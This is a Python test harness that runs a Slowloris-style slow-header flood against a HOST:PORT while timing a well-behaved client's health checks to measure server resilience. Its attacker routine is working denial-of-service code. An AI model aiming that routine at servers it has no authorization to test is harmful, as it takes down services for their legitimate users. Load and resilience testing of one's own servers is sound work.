#!/usr/bin/env python3
"""slowloris.py HOST:PORT N SECONDS: holds N sockets that send a request head one byte a second
(reconnecting whenever the server drops one) while a well-behaved client asks GET
/_faultline/health every 100 ms on a fresh connection, and another every 300 ms on one
keep-alive connection. Prints one JSON line: the fresh-connection calls made and answered,
their worst and median latency, the keep-alive calls made and answered and how often that
connection was closed under it, and how often the server dropped a trickling socket."""
import json, socket, sys, threading, time

host, port = sys.argv[1].split(":")
port, n, secs = int(port), int(sys.argv[2]), float(sys.argv[3])
HEAD = b"GET /_faultline/health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
stop = time.monotonic() + secs
drops = 0
socks = []


def opener():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    return [s, 0]


def attacker():
    global drops
    for _ in range(n):
        socks.append(opener())
    while time.monotonic() < stop:
        for ent in socks:
            s, off = ent
            try:
                if s.send(HEAD[off % len(HEAD):off % len(HEAD) + 1]) == 1:
                    ent[1] += 1
                d = s.recv(4096)
                if d == b"" or d:
                    raise ConnectionError
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                drops += 1
                s.close()
                ent[0], ent[1] = opener()[0], 0
        time.sleep(1.0)
    for s, _ in socks:
        s.close()


ka = {"made": 0, "answered": 0, "closed": 0}


def keepalive():
    c = None
    while time.monotonic() < stop - 0.5:
        ka["made"] += 1
        try:
            if c is None:
                c = socket.create_connection((host, port), timeout=10)
            c.sendall(b"GET /_faultline/health HTTP/1.1\r\nHost: x\r\n\r\n")
            data = b""
            while b"plan_loaded" not in data:
                d = c.recv(65536)
                if not d:
                    raise ConnectionError
                data += d
            ka["answered"] += 1
        except OSError:
            ka["closed"] += 1
            if c is not None:
                c.close()
            c = None
        time.sleep(0.3)


t = threading.Thread(target=attacker, daemon=True)
t.start()
time.sleep(1.5)
k = threading.Thread(target=keepalive, daemon=True)
k.start()
time.sleep(1.5)  # let the sockets fill the slots
lat, made, errors = [], 0, []
while time.monotonic() < stop - 0.5:
    made += 1
    t0 = time.monotonic()
    try:
        c = socket.create_connection((host, port), timeout=10)
        c.settimeout(10)
        c.sendall(b"GET /_faultline/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            d = c.recv(65536)
            if not d:
                break
            data += d
        c.close()
        if data.startswith(b"HTTP/1.1 200") and b'"ok":true' in data:
            lat.append(time.monotonic() - t0)
        else:
            errors.append("answer %r after %.1f s" % (data[:40], time.monotonic() - t0))
    except OSError as e:
        errors.append("%r after %.1f s" % (e, time.monotonic() - t0))
    time.sleep(0.1)
t.join()
k.join()
lat.sort()
print(json.dumps({"made": made, "answered": len(lat),
                  "max_ms": round(lat[-1] * 1000) if lat else None,
                  "median_ms": round(lat[len(lat) // 2] * 1000) if lat else None,
                  "ka_made": ka["made"], "ka_answered": ka["answered"], "ka_closed": ka["closed"],
                  "attacker_drops": drops, "errors": errors[:5]}))
